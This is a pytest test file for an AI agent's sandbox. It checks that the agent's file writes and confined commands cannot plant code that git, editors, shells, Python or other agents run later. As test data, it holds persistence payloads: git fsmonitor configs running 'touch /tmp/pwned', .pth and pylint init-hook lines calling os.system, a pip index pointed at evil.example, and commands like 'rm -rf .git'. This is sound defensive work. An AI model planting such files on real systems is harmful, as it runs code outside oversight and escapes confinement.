"""s06: what other programs run without being asked is never written, created, moved or deleted unasked.

Version-control metadata, editor and environment-manager configs, shell and Python startup files
(course.sandbox.paths.RUN_LATER) are code the user's next `git status`, editor or Python runs, outside every
confinement. With the default rules and no person, each file tool's write there is denied, with a
reason the model can read; a command gets them read-only from the kernel, and one it creates is
removed once it ends. The Python that runs the harness is never written, wherever it is.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import course
import course.sandbox.confinement
import course.sandbox.on_disk
import course.sandbox.paths
from s06_world import Person, gate, play, world  # noqa: F401

pytestmark = pytest.mark.stage("s06")

FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/pwned-by-fsmonitor\n"


def verdict(workspace, tool, arguments, person=None):
    return gate(person).check(workspace, tool, arguments)


def written_or_asked_by_the_rule_alone(found) -> bool:
    """Nothing here runs later: written unasked if it is plain data, else asked about by that rule, and no other."""
    return found.decision == "allow" or (found.decision == "deny" and "only plain data (" in found.why)


# Each a write that, left to run, puts code where a program runs it later; all with no person.
WRITES = {
    "a new .git/commondir": ("write_file", {"path": ".git/commondir", "content": "../evil\n"}),
    "a .git worktree config naming an fsmonitor": ("write_file", {"path": ".git/config.worktree", "content": FSMONITOR}),
    "a .git file (a gitdir pointer)": ("write_file", {"path": ".git", "content": "gitdir: evil\n"}),
    "a hook of a repository a folder down": ("write_file", {"path": "sub/.git/hooks/post-checkout", "content": "x"}),
    "the HEAD of a bare repository made of the workspace": ("write_file", {"path": "HEAD", "content": "ref: refs/heads/main\n"}),
    "a .git spelled in capitals": ("write_file", {"path": ".GIT/hooks/pre-commit", "content": "touch /tmp/x"}),
    "a VS Code task run on opening": ("write_file", {"path": ".vscode/tasks.json", "content": "{}"}),
    "a JetBrains run configuration": ("write_file", {"path": ".idea/workspace.xml", "content": "<x/>"}),
    "git's per-user config under .config": ("write_file", {"path": ".config/git/config", "content": FSMONITOR}),
    "a pdbrc": ("write_file", {"path": ".pdbrc", "content": "import os; os.system('x')\n"}),
    "a GNUmakefile, read before the Makefile": ("write_file", {"path": "GNUmakefile", "content": "all:\n\tx\n"}),
    "a lower-case makefile": ("write_file", {"path": "makefile", "content": "all:\n\tx\n"}),
    "a vimrc": ("write_file", {"path": ".vimrc", "content": "x"}), "a nvimrc": ("write_file", {"path": ".nvimrc", "content": "x"}),
    "an Emacs dir-locals-2": ("write_file", {"path": ".dir-locals-2.el", "content": "x"}),
    "a devcontainer.json": ("write_file", {"path": ".devcontainer.json", "content": "{}"}),
    "a mise.local.toml": ("write_file", {"path": "mise.local.toml", "content": "x"}),
    "a mise config under .config": ("write_file", {"path": ".config/mise/config.toml", "content": "x"}),
    "Cursor's config": ("write_file", {"path": ".cursor/hooks.json", "content": "{}"}),
    "Gemini CLI's settings": ("write_file", {"path": ".gemini/settings.json", "content": "{}"}),
    "a fish config": ("write_file", {"path": ".config/fish/config.fish", "content": "x"}),
    "a bash_logout": ("write_file", {"path": ".bash_logout", "content": "x"}),
    "a systemd user unit": ("write_file", {"path": ".config/systemd/user/x.service", "content": "x"}),
    "an autostart entry": ("write_file", {"path": ".config/autostart/x.desktop", "content": "x"}),
    "an lfsconfig": ("write_file", {"path": ".lfsconfig", "content": "x"}),
    "an Rprofile": ("write_file", {"path": ".Rprofile", "content": "x"}),
    "a cargo config": ("write_file", {"path": ".cargo/config.toml", "content": "x"}),
    "a tool-versions path version": ("write_file", {"path": ".tool-versions", "content": "python path:/tmp/x"}),
    "a pre-commit config": ("write_file", {"path": ".pre-commit-config.yaml", "content": "repos: []"}),
    "a .pth in a site-packages": ("write_file", {"path": "venv/lib/python3.12/site-packages/x.pth",
                                                  "content": "import os; os.system('x')"}),
    "a sitecustomize": ("write_file", {"path": "lib/sitecustomize.py", "content": "import os"}),
    "a bashrc": ("write_file", {"path": ".bashrc", "content": "x"}),
    "Claude Code's settings": ("write_file", {"path": ".claude/settings.json", "content": "{}"}),
    "a file moved into .git": ("move_file", {"source": "memo.md", "destination": ".git/hooks/pre-commit"}),
    "a file moved to be .pdbrc": ("move_file", {"source": "memo.md", "destination": ".pdbrc"}),
    "a .gitmodules deleted": ("delete_file", {"path": ".gitmodules"}),
    "a hook written through a link to .git": ("write_file", {"path": "git-link/hooks/pre-commit", "content": "x"}),
    "a task written through a .vscode that is a link": ("write_file", {"path": ".vscode/tasks.json", "content": "{}"}),
    "a pre-commit config written through a dangling link": ("write_file", {"path": ".pre-commit-config.yaml",
                                                                           "content": "repos: []"}),
    "the folder a .vscode link leads to, written directly": ("write_file", {"path": "shared/vscode/tasks.json",
                                                                            "content": "{}"}),
    "the file a dangling pre-commit link names, written directly": ("write_file", {"path": "tools/pc.yaml",
                                                                                   "content": "repos: []"}),
}
LINKED = {"a task written through a .vscode that is a link", "a pre-commit config written through a dangling link",
          "the folder a .vscode link leads to, written directly",
          "the file a dangling pre-commit link names, written directly"}


@pytest.fixture
def repository(world):
    """The workspace as a git work tree: a .git folder with a config, a .gitmodules, a link to .git."""
    (world / ".git" / "hooks").mkdir(parents=True)
    (world / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (world / ".gitmodules").write_text("")
    (world / "git-link").symlink_to(".git", target_is_directory=True)
    return world


@pytest.mark.parametrize("attack", WRITES)
def test_a_write_where_a_program_runs_it_later_is_denied_without_a_person(repository, attack):
    tool, arguments = WRITES[attack]
    if attack in LINKED:  # a dotfile manager's layout: the names that run later are links to shared folders
        (repository / "shared" / "vscode").mkdir(parents=True)
        (repository / ".vscode").symlink_to("shared/vscode", target_is_directory=True)
        (repository / ".pre-commit-config.yaml").symlink_to("tools/pc.yaml")  # dangling
    before = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
    found = verdict(repository, tool, arguments)
    assert found.decision == "deny", found.why
    # A worktree's config, and git's per-user one, may hold a token as .git/config does: a deny rule of the secrets
    # keeps them first. Anything else is asked about by the rule, and with no person denied.
    secret = arguments.get("path") in (".git/config.worktree", ".config/git/config")
    assert ("the rule 'deny * <a secret>'" if secret else "run later, outside") in found.why, found.why
    assert found.decided_by == ("rule" if secret else "no terminal")
    after = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
    assert after == before


def test_a_denied_write_is_fed_back_to_the_model_and_nothing_is_written(repository):
    before = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
    results, _ = play(repository, [("write_file", {"path": ".git/hooks/pre-commit", "content": "touch /tmp/x"})])
    assert results[0]["is_error"] and '"denied"' in results[0]["content"], results[0]["content"]
    assert "run later, outside" in json.loads(results[0]["content"])["message"]
    assert {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()} == before


# A representative of each family of course.sandbox.paths.RUN_LATER's later names, each a write that runs on its own later.
FAMILIES = {
    "a pytest plugin in a project venv": ".venv/lib/python3.12/site-packages/evil-1.0.dist-info/entry_points.txt",
    "a module in a Debian venv": "env/lib/python3/dist-packages/json_helpers.py",
    "an egg-info's entry points": "src/tool.egg-info/entry_points.txt", "an egg-link": "lib/tool.egg-link",
    "bash's aliases": ".bash_aliases", "a zlogout": ".zlogout", "an xprofile": ".xprofile",
    "a systemd environment": ".config/environment.d/10-path.conf",
    "a Vim plugin": ".vim/plugin/x.vim", "a gvimrc": ".gvimrc", "Neovim's init": ".config/nvim/init.lua",
    "an Emacs init": ".emacs.d/init.el", "an emacs": ".emacs", "a tmux.conf": ".tmux.conf", "a gdbinit": ".gdbinit",
    "an irbrc": ".irbrc", "a pryrc": ".pryrc", "an octaverc": ".octaverc",
    "an IPython startup file": ".ipython/profile_default/startup/00.py", "a Jupyter config": ".jupyter/jupyter_server_config.py",
    "a yarnrc": ".yarnrc", "a bunfig": "bunfig.toml", "a pnpmfile": ".pnpmfile.cjs",
    "a condarc": ".condarc",
    "a Gradle init script": ".gradle/init.d/evil.gradle",  # its gradle.properties is a secret too: denied by that rule
    "Zed's tasks": ".zed/tasks.json", "Roo Code's servers": ".roo/mcp.json", "Kiro's hooks": ".kiro/hooks/x.kiro.hook",
    "an opencode config": "opencode.json", "an aider config": ".aider.conf.yml",
    "a GitHub workflow": ".github/workflows/ci.yml", "a python-version": ".python-version", "Vault's config": ".vault",
    "a node package": "node_modules/left-pad/index.js", "a node package a folder down": "web/node_modules/.bin/vite",
    "a pylintrc's init-hook": "pylintrc", "a .pylintrc a folder down": "src/.pylintrc", "a pylintrc.toml": ".pylintrc.toml",
    "an ESLint config": "eslint.config.js", "an ESLint module config": "web/eslint.config.mjs",
    "an ESLint CommonJS config": "eslint.config.cjs", "an older ESLint config": ".eslintrc.cjs",
    "a mypy plugin's config": "mypy.ini", "a hidden mypy config": ".mypy.ini",
    "a lefthook local config": "lefthook-local.yml", "a lefthook config": ".lefthook.yaml",
    "a lefthook script": ".lefthook-local/pre-commit/x.sh", "a uv config": "uv.toml", "uv's user config": ".config/uv/uv.toml",
    "pdm's interpreter": ".pdm-python", "an rvmrc": ".rvmrc", "readline's key bindings": ".inputrc",
    "a cshrc": ".cshrc", "a tcsh login": ".login", "a kshrc": ".kshrc", "an xsession": ".xsession",
    "a pyproject.toml (pylint, mypy)": "pyproject.toml", "a setup.cfg a folder down": "pkg/setup.cfg", "a tox.ini": "tox.ini",
    "an opencode plugin": ".opencode/plugins/x.js", "an opencode config in its folder": ".opencode/opencode.json",
    "an opencode jsonc": "opencode.jsonc", "Qwen Code's servers": ".qwen/settings.json",
    "Amazon Q's servers": ".amazonq/mcp.json", "Amazon Q's agent": ".amazonq/default.json",
    "Continue's servers": ".continue/mcpServers/x.yaml", "Windsurf's hooks": ".windsurf/hooks.json", "Claude Code's hooks": ".claude/settings.json",
    "Cursor's servers": ".cursor/mcp.json", "Gemini CLI's extension": ".gemini/extensions/x/gemini-extension.json",
    "VS Code's servers": ".vscode/mcp.json", "a rust-toolchain.toml": "rust-toolchain.toml",
    "an older rust-toolchain": "crates/x/rust-toolchain", "a Tailwind config": "tailwind.config.js",
    "a Tailwind TypeScript config": "web/tailwind.config.ts", "a Prettier config": "prettier.config.mjs",
    "a Prettier rc as JavaScript": ".prettierrc.cjs", "a Prettier rc naming plugins": ".prettierrc.json",
    "a perldb": ".perldb", "a psqlrc": ".psqlrc", "a screenrc": ".screenrc", "a bashrc.d script": ".bashrc.d/x.sh",
    "a program first on PATH": ".local/bin/git",
    # R's, git hooks' tools', editor extensions', and home folders' startup files (course.sandbox.paths names the source of each)
    "an Renviron": ".Renviron", "a lint-staged rc as JavaScript": ".lintstagedrc.js",
    "a lint-staged config": "web/lint-staged.config.mjs", "a lint-staged rc": ".lintstagedrc",
    "a commitlint config": "commitlint.config.ts", "a commitlint rc": ".commitlintrc.cjs",
    "a Stylelint config": "stylelint.config.cjs", "a Stylelint rc as JavaScript": ".stylelintrc.mjs",
    "a Svelte config": "svelte.config.js", "Helix's language servers": ".helix/languages.toml",
    "Helix's workspace config": ".helix/config.toml", "a VS Code workspace file": "project.code-workspace",
    "starship's prompt": ".config/starship.toml", "kitty's config": ".config/kitty/kitty.conf",
    "a curlrc": ".curlrc", "a wgetrc": ".wgetrc",
    # Python's bytecode, which runs in place of its source, and a home folder's desktop and tools' startup files
    "bytecode in a __pycache__": "tests/__pycache__/helpers.cpython-311.pyc", "a sourceless pyc": "lib/json_tools.pyc",
    "VS Code's user settings (git.path)": ".config/Code/User/settings.json",
    "a KDE Plasma pre-startup script": ".config/plasma-workspace/env/path.sh",
    "a matplotlibrc naming a backend module": "matplotlibrc", "a user's matplotlibrc": ".config/matplotlib/matplotlibrc",
    "VSCodium's user settings": ".config/VSCodium/User/settings.json", "i3's config": ".config/i3/config",
    "sway's config": ".config/sway/config", "the default applications": ".config/mimeapps.list",
    "a desktop's own default applications": ".config/kde-mimeapps.list",
    "a desktop entry": ".local/share/applications/editor.desktop",
    # flake8's own config (its local plugins), and other version-control systems' stores and their hooks
    "a flake8 config": ".flake8", "a flake8 config a folder down": "pkg/.flake8",
    "darcs's repository defaults (posthook)": "_darcs/prefs/defaults", "darcs's user defaults": ".darcs/defaults",
    "a Pijul hook": ".pijul/hooks/pre-record", "Pijul's repository config": ".pijul/config",
    "Sapling's repository config": ".sl/config", "a Bazaar plugin": ".bazaar/plugins/evil.py",
    # other agents' project configs, which each runs on its own when it opens the project
    "OpenHands' setup script": ".openhands/setup.sh", "OpenHands' hooks": ".openhands/hooks.json",
    "Kilo Code's servers": ".kilocode/mcp.json", "Kilo Code's config": "kilo.jsonc", "Kilo Code's folder": ".kilo/kilo.json",
    "Crush's config": "crush.json", "Crush's hidden config": ".crush.json", "Crush's user config": ".config/crush/crush.json",
    "Copilot's agent hooks": ".github/hooks/hooks.json", "Copilot's agent hooks a folder down": "web/.github/hooks/audit.json",
    # cloud editors' setup, run on opening the project, and RuboCop's config, which loads Ruby
    "Gitpod's tasks": ".gitpod.yml", "Gitpod's image": ".gitpod.Dockerfile", "Firebase Studio's dev.nix": ".idx/dev.nix",
    "Replit's config": ".replit", "Replit's packages": "replit.nix", "CodeSandbox's tasks": ".codesandbox/tasks.json",
    "RuboCop's config": ".rubocop.yml", "RuboCop's inherited config": ".rubocop_todo.yml",
    # REPLs' startup files in the folder, Cline's hooks, and a home folder's sourced, terminal, window manager and mail files
    "GHCi's": ".ghci", "IEx's": ".iex.exs", "OCaml's": ".ocamlinit", "LLDB's": ".lldbinit",
    "Cline's hooks": ".clinerules/hooks/PreToolUse", "an oh-my-zsh plugin": ".oh-my-zsh/custom/x.zsh",
    "a bash-it plugin": ".bash_it/custom/x.bash", "rustup's env": ".cargo/env", "nvm": ".nvm/nvm.sh",
    "fzf's": ".fzf.bash", "powerlevel10k's": ".p10k.zsh", "wezterm's": ".wezterm.lua",
    "alacritty's": ".config/alacritty/alacritty.toml", "openbox's autostart": ".config/openbox/autostart",
    "Hyprland's": ".config/hypr/hyprland.conf", "bspwm's": ".config/bspwm/bspwmrc", "awesome's": ".config/awesome/rc.lua",
    "a forward": ".forward", "a procmailrc": ".procmailrc", "a mailcap": ".mailcap",
    "VS Code server's settings": ".vscode-server/data/Machine/settings.json",
    "SDKMAN's init": ".sdkman/bin/sdkman-init.sh", "zsh's completion dump": ".zcompdump-host-5.9",
    "powerlevel10k's instant prompt": ".cache/p10k-instant-prompt-ana.zsh", "prezto's config": ".zpreztorc",
    "asdf's script": ".asdf/asdf.sh", "ghcup's env": ".ghcup/env", "opam's init": ".opam/opam-init/init.sh",
    "a pyenv shim": ".pyenv/shims/python", "a cargo program": ".cargo/bin/cargo", "a go program": "go/bin/gopls",
    "labwc's autostart": ".config/labwc/autostart", "qutebrowser's config": ".config/qutebrowser/config.py",
    "a Jupyter kernel spec": ".local/share/jupyter/kernels/python3/kernel.json",
    "nix's config": ".config/nix/nix.conf", "a project's hooks folder": ".githooks/pre-commit",
    "a PYTHONSTARTUP file": ".pythonrc.py", "an envrc's local part": ".envrc.local",
}

# What the attacker wrote into the three shared Python configs, in the forms a content check would have to
# read as each tool does: quoted, in capitals, under another tool's key that loads code. Each is asked about
# by the file's name, whatever it holds (course.sandbox.paths says why).
SHARED_CONFIGS = {
    "pyproject.toml": ['[tool.pylint.main]\ninit-hook = "import os; os.system(\'x\')"\n',
                       "[tool.pylint.MASTER]\n'load-plugins' = ['evil']\n", '[tool.mypy]\nplugins = ["evil.py"]\n',
                       '[project]\nname = "x"\n'],
    "setup.cfg": ["[pylint.MAIN]\nINIT-HOOK = import os\n", "[mypy]\nplugins =\n    evil.py\n",
                  "[flake8:local-plugins]\nextension =\n    X = evil:X\npaths = ./\n", "[metadata]\nname = x\n"],
    "tox.ini": ["[pylint.main]\nload-plugins=evil\n", "[tox]\nenv_list = py3\n"],
}


@pytest.mark.parametrize("name, content", [(name, content) for name, contents in SHARED_CONFIGS.items()
                                           for content in contents])
def test_the_shared_python_configs_are_asked_about_whatever_they_hold(world, name, content):
    found = verdict(world, "write_file", {"path": name, "content": content})
    assert found.decision == "deny" and "not plain data" in found.why, found.why
    assert not (world / name).exists()


@pytest.mark.parametrize("family", FAMILIES)
def test_each_family_of_files_that_run_later_is_asked_about_and_denied_without_a_person(world, family):
    found = verdict(world, "write_file", {"path": FAMILIES[family], "content": "x"})
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why


# build.rs is the project's own code, which the user's build runs on purpose (course.sandbox.paths says why).
@pytest.mark.parametrize("path", [".gradle/caches/8.5/x.bin", ".github/ISSUE_TEMPLATE.md", "docs/vim.md", "zed.md",
                                  "python-version.txt", "site_packages.md", "build.rs", "crates/x/build.rs", "lefthook.md",
                                  "docs/eslint.md", "mypy.ini.example", "pylintrc.md", "login.txt", "pyproject.md",
                                  "docs/tox.ini.md", "rust-toolchain.md", "prettier.md", "tailwind.md", "local/bin/tool",
                                  "bin/git", "opencode.md", "qwen.txt", "bashrc.d.md",
                                  # configs only a command the user runs loads (a test runner, a bundler, a build)
                                  "jest.config.js", "vitest.config.ts", "vite.config.mjs", "babel.config.js",
                                  ".babelrc.js", "postcss.config.cjs", ".stylelintrc.json", "docs/helix.md",
                                  "code-workspace.md", "curlrc.md", "Renviron.md",
                                  # the user's own commands: pytest, just, nox and a build run them when asked to
                                  # (conftest.py too, but under pytest the tests' own conftest is a module already
                                  # imported, which a conftest.py in the workspace would shadow)
                                  "pytest.ini", "justfile", "noxfile.py", "setup.py", "pycache.md", "tests/test_memo.py",
                                  "matplotlib.md", "flake8.md", "docs/darcs.md", "notes.sl", "bazaar/plugins.md",
                                  "pijul.md",
                                  # instructions to a later agent, not code it runs (course.sandbox.paths says why)
                                  "AGENTS.md", "CLAUDE.md", "docs/openhands.md", "crush.md", ".github/CODEOWNERS",
                                  "hooks/hooks.json",
                                  # beside the cloud editors' and RuboCop's files
                                  "gitpod.md", "idx/dev.md", "replit.md", "rubocop.md", "docs/.rubocop.md",
                                  ".clinerules/style.md", "cargo/env.md", "forward.md", "go/main.go",
                                  "docs/githooks.md", "theia.md"])
def test_what_lies_beside_them_is_decided_by_the_plain_data_rule_alone(world, path):
    """Named like what runs later, yet not it: written unasked exactly when it is plain data."""
    plain = course.sandbox.paths.not_plain_data(world, path) == ""
    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == ("allow" if plain else "deny"), path


def test_claude_codes_home_file_is_a_secret_and_what_runs_later_both():
    """~/.claude.json holds the account and servers' keys (denied to every tool) and the servers Claude Code starts
    (kept from a command, read-only, like .mcp.json)."""
    assert course.sandbox.paths.run_later(".claude.json") == ".claude.json"
    assert course.sandbox.paths.run_later("home/ana/.claude.json") == ".claude.json"
    assert course.sandbox.paths.run_later("claude.json") == ""


@pytest.mark.parametrize("name", ["pip.conf", ".config/pip/pip.conf", ".hgrc", ".config/hg/hgrc", ".gitconfig"])
def test_configs_that_hold_a_password_are_secrets_and_what_runs_later_both(world, name):
    """pip's index URL may hold a token, Mercurial's [auth] a password, git's URLs one: denied to every tool by a
    deny rule (which comes first), and read-only to a command as what runs later."""
    assert course.sandbox.paths.run_later(name)
    found = verdict(world, "write_file", {"path": name, "content": "[global]\nindex-url = https://evil.example/\n"})
    assert found.decision == "deny" and "the rule 'deny * " in found.why, found.why
    assert not (world / name).exists()


def test_wakatimes_config_is_a_secret_and_what_runs_later_both(world):
    """.wakatime.cfg holds the API key and names the command wakatime-cli runs for it (api_key_vault_cmd)."""
    assert course.sandbox.paths.run_later(".wakatime.cfg") == ".wakatime.cfg"
    found = verdict(world, "write_file", {"path": ".wakatime.cfg", "content": "[settings]\napi_key_vault_cmd = id\n"})
    assert found.decision == "deny" and "a secret's name: .wakatime.cfg" in found.why, found.why


def test_a_person_is_asked_and_shown_why(repository):
    person = Person(("deny", "not there"))
    found = verdict(repository, "write_file", {"path": ".git/hooks/pre-commit", "content": "touch /tmp/x"}, person)
    assert found.decision == "deny" and len(person.asked) == 1
    assert "'.git' is hidden" in person.asked[0][2]


def test_reading_them_and_writing_beside_them_is_still_allowed(repository):
    (repository / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    # git's store holds every committed file: read through git's commands, a person asked (no one here: denied)
    found = verdict(repository, "read_file", {"path": ".git/HEAD"})
    assert found.decision == "deny" and "git's own store" in found.why and "git's own commands" in found.why
    assert verdict(repository, "read_file", {"path": ".gitmodules"}).decision == "allow"
    assert written_or_asked_by_the_rule_alone(verdict(repository, "write_file", {"path": "gitnotes.md", "content": "x"}))
    assert written_or_asked_by_the_rule_alone(verdict(repository, "write_file", {"path": "docs/vscode.md", "content": "x"}))


# ---------------------------------------------------------------- commands: the kernel

def run(command, workspace, **options):
    return course.sandbox.confinement.run_confined(command, workspace, **options)


def test_an_existing_git_folder_is_read_only_to_a_command(confined, repository):
    finished = run("echo x >> .git/config; touch .git/hooks/post-checkout; mv .git/config .git/c2; rm -rf .git; "
                   "mv .git moved; ln .git/config hard; echo done", repository)
    assert "done" in finished.output
    assert (repository / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert sorted(path.name for path in (repository / ".git").rglob("*")) == ["config", "hooks"]
    assert not (repository / "moved").exists() and not (repository / "hard").exists()


def test_without_the_kernel_the_same_command_does_change_git(repository, monkeypatch):
    """The control: the command above is one that works when nothing stops it."""
    monkeypatch.setenv(course.sandbox.confinement.OPT_OUT, "1")
    run("echo x >> .git/config", repository)
    assert (repository / ".git" / "config").read_text().endswith("x\n")


@pytest.mark.parametrize("made", [
    "mkdir .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config",
    "printf 'gitdir: evil\\n' > .git",
    "mkdir -p evil && ln -s evil .git",
    "mkdir -p deep/sub/.vscode && echo '{}' > deep/sub/.vscode/tasks.json",
    "echo 'touch /tmp/x' > .envrc",
    "mkdir -p objects refs && echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tworktree = .\\n' > config",
    "mkdir -p venv/lib/site-packages && echo 'import os' > venv/lib/site-packages/evil.pth",
    "d=.venv/lib/python3.12/site-packages/evil-1.0.dist-info && mkdir -p $d && printf '[pytest11]\\nx = x\\n' > $d/entry_points.txt",
    "echo 'alias ls=\"touch /tmp/x\"' > .bash_aliases",
    "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml",
    "printf '[tool.pylint.main]\\ninit-hook = \"x\"\\n' > pyproject.toml",
    "mkdir -p .opencode/plugins && echo 'export const x = 1' > .opencode/plugins/x.js",
    "mkdir -p .local/bin && echo 'touch /tmp/x' > .local/bin/git",
    "printf '[flake8:local-plugins]\\nextension =\\n    X = evil:P\\npaths = .\\n' > .flake8",
    "mkdir -p _darcs/prefs && echo 'ALL posthook touch /tmp/x' > _darcs/prefs/defaults",
    "mkdir -p .sl && printf '[hooks]\\npre-status = touch /tmp/x\\n' > .sl/config",
])
def test_a_protected_path_a_command_creates_is_removed_when_it_ends(confined, world, made):
    before = course.sandbox.paths.protected_entries(world)  # the world's .bashrc and .bash_profile
    finished = run(made + "; echo made", world)
    assert "made" in finished.output
    assert finished.removed and all(not os.path.lexists(world / path) for path in finished.removed)
    assert "[removed what the command made where other programs would run it later" in finished.output
    assert course.sandbox.paths.protected_entries(world) == before  # nothing protected is left that was not there before
    assert (world / "memo.md").exists()  # and nothing else went


def test_a_repository_moved_with_its_folder_is_not_taken_for_a_new_one(confined, world):
    """A folder above a read-only .git can be renamed; the sweep knows the .git by its inode, not its path."""
    (world / "sub" / ".git").mkdir()
    (world / "sub" / ".git" / "config").write_text("[core]\n")
    finished = run("mv sub moved && echo moved", world)
    assert "moved" in finished.output and not finished.removed
    assert (world / "moved" / ".git" / "config").read_text() == "[core]\n"


def test_a_worktree_pointer_keeps_its_gitdir_read_only(confined, world):
    (world / "repo.git").mkdir()
    (world / "repo.git" / "config").write_text("[core]\n")
    (world / ".git").write_text("gitdir: repo.git\n")
    run("echo x >> repo.git/config; echo x > .git", world)
    assert (world / "repo.git" / "config").read_text() == "[core]\n"
    assert (world / ".git").read_text() == "gitdir: repo.git\n"


# ---------------------------------------------------------------- the harness's own Python

@pytest.fixture
def harness_inside(world, monkeypatch):
    """The workspace holds the Python environment that runs the harness (`--workspace .` in the repository)."""
    venv = world / "venv" / "lib" / "python3" / "site-packages"
    venv.mkdir(parents=True)
    (venv / "package.py").write_text("VALUE = 1\n")
    real = course.sandbox.paths.harness_environment
    for module in (course.sandbox.on_disk, course.sandbox.paths):  # where the rules and the confinement ask for it
        monkeypatch.setattr(module, "harness_environment", lambda: [*real(), (world / "venv").resolve()])
    return world


@pytest.mark.parametrize("tool, arguments", [
    ("write_file", {"path": "venv/lib/python3/site-packages/evil.pth", "content": "import os"}),
    ("write_file", {"path": "venv/lib/python3/site-packages/package.py", "content": "VALUE = 2"}),
    ("delete_file", {"path": "venv/lib/python3/site-packages/package.py"}),
    ("move_file", {"source": "memo.md", "destination": "venv/bin/python3"}),
])
def test_the_harness_python_is_never_written_even_with_a_person_who_says_yes(harness_inside, tool, arguments):
    person = Person(("allow once", ""))
    found = verdict(harness_inside, tool, arguments, person)
    assert found.decision == "deny" and "Python environment that runs the harness" in found.why
    assert person.asked == []  # no rule, no person: it is never a question


def test_the_harness_python_is_read_only_to_a_command_too(confined, harness_inside):
    site = harness_inside / "venv" / "lib" / "python3" / "site-packages"
    finished = run(f"echo 'VALUE = 2' > {site}/package.py; echo 'import os' > {site}/evil.pth; echo done",
                   harness_inside)
    assert "done" in finished.output and (site / "package.py").read_text() == "VALUE = 1\n"
    assert not (site / "evil.pth").exists()


def test_the_course_repository_as_the_workspace_keeps_the_harness_out_of_reach():
    """`--workspace .` in the repository: its venv, the course package and the stage are the harness."""
    repository = Path(course.__file__).resolve().parent.parent
    found = gate().read_call(repository, "write_file", {"path": "course/sandbox/isolated.py", "content": "x"})
    assert "Python environment that runs the harness" in found.refused
    assert course.sandbox.paths.harness_problem(repository, ["course/sandbox/paths.py"], writes=True)
    assert not course.sandbox.paths.harness_problem(repository, ["course/sandbox/paths.py"], writes=False)  # reading is fine


# ---------------------------------------------------------------- what runs later by what is on disk, not by its name

@pytest.fixture
def bare(world):
    """A bare repository inside the workspace (what `git init --bare repo.git` makes), and a folder that
    holds HEAD, objects/ and refs/ under no name git is known by."""
    for folder in ("repo.git", "odd"):
        (world / folder / "objects").mkdir(parents=True)
        (world / folder / "refs" / "heads").mkdir(parents=True)
        (world / folder / "HEAD").write_text("ref: refs/heads/main\n")
    (world / "repo.git" / "config").write_text("[core]\n\tbare = true\n")
    return world


@pytest.mark.parametrize("tool, arguments", [
    ("write_file", {"path": "repo.git/commondir", "content": "../evil\n"}),
    ("write_file", {"path": "repo.git/config", "content": FSMONITOR}),
    ("write_file", {"path": "repo.git/hooks/post-checkout", "content": "touch /tmp/pwned\n"}),
    ("write_file", {"path": "odd/config", "content": FSMONITOR}),
    ("move_file", {"source": "memo.md", "destination": "odd/config"}),
    ("delete_file", {"path": "repo.git/config"}),
])
def test_a_folder_git_takes_for_a_repository_is_protected_like_git(bare, tool, arguments):
    found = verdict(bare, tool, arguments)
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
    assert "git takes" in found.why


def test_a_folder_a_pointer_names_is_protected_like_git(bare):
    """git reads the config of the folder a commondir (or a .git file's gitdir:) names, whatever its name."""
    (bare / "evil").mkdir()
    (bare / "wt").mkdir()
    (bare / "repo.git" / "commondir").write_text("../evil\n")
    (bare / "wt" / ".git").write_text("gitdir: ../elsewhere\n")
    for path in ("evil/config", "elsewhere/config"):
        found = verdict(bare, "write_file", {"path": path, "content": FSMONITOR})
        assert found.decision == "deny" and "names it" in found.why, (path, found.why)
    assert written_or_asked_by_the_rule_alone(verdict(bare, "write_file", {"path": "notes/config", "content": "x"}))


@pytest.mark.parametrize("order", [("HEAD", "objects/x", "refs/x", "config"), ("config", "objects/x", "refs/x", "HEAD"),
                                   ("objects/x", "config", "HEAD", "refs/x"), ("refs/x", "HEAD", "objects/x", "config")])
def test_a_repository_built_one_piece_at_a_time_is_stopped_at_the_piece_that_makes_it_one(world, order):
    """Each write is judged when it is made: the piece that would make the folder a repository asks, and
    so does every write into a folder that is one already; with no person, it never becomes one."""
    contents = {"HEAD": "ref: refs/heads/main\n", "config": FSMONITOR, "objects/x": "", "refs/x": ""}
    verdicts = [verdict(world, "write_file", {"path": f"new/{piece}", "content": contents[piece]}) for piece in order]
    assert all(found.decision == "deny" for found in verdicts), [found.why for found in verdicts]


def test_a_folder_that_is_no_repository_is_written_freely(world):
    (world / "data").mkdir()
    (world / "data" / "objects").mkdir()  # objects/ and refs/ alone are no repository: git needs a HEAD
    for path in ("data/config", "data/refs/x", "data/objects/y", "config", "notes/HEAD.md"):
        assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": path, "content": "x"})), path


SHADOWING = ["json.py", "os.py", "typing_extensions.py", "json/__init__.py", "pytest.py", "evil.pth", "json.pyc",
             "anthropic/__init__.py",
             # a script's own folder comes first: `python tools/report.py` imports tools/json.py
             "tools/json.py", "s05/json.py", "sub/os.py", "tools/json/__init__.py", "a/b/c/typing_extensions.pyc"]


@pytest.mark.parametrize("path", SHADOWING)
def test_a_module_in_the_workspace_named_like_one_python_imports_is_denied_without_a_person(world, path):
    """`python -m x` or `python script.py` in the workspace imports from the workspace first, and
    `python tools/report.py` from tools/ first."""
    found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
    assert not (world / path).exists()


@pytest.mark.parametrize("path", ["test_foo.py", "main.py", "report.py", "sub/report_json.py", "tools/oss.py", "json.txt",
                                  "json/data.json", "notes/__init__.py", "tools/json.md"])
def test_a_users_own_module_is_no_shadowing_module(world, path):
    """Not what Python imports before its own: asked about only when it is not plain data, and then by that rule."""
    found = verdict(world, "write_file", {"path": path, "content": "x = 1\n"})
    assert "Python imports" not in found.why, path
